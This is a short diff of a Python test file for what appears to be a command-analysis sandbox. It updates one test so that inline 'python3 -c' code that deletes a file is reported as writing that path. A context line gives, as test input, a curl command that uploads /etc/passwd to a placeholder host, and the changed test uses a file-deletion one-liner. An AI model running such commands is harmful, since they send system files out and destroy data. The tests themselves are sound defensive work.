@@ -505,10 +505,11 @@ def test_curl_upload_reads_the_file(sb):
     assert sb.paths("curl -F f=@/etc/passwd https://x.example") == {"/etc/passwd"}
 
 
-def test_python_c_is_opaque(sb):
+def test_python_c_is_read_and_still_reported(sb):
+    # The code is analysed (tests/event_source/test_code_*.py), and still flagged as inline code.
     analysis = sb.run("python3 -c \"import os; os.remove('x')\"")
     assert "inline_code" in analysis.reasons
-    assert sb.writes("python3 -c \"import os; os.remove('x')\"") == set()
+    assert sb.writes("python3 -c \"import os; os.remove('x')\"") == {"./x"}
 
 
 def test_inline_code_literal_paths_are_reported(sb):
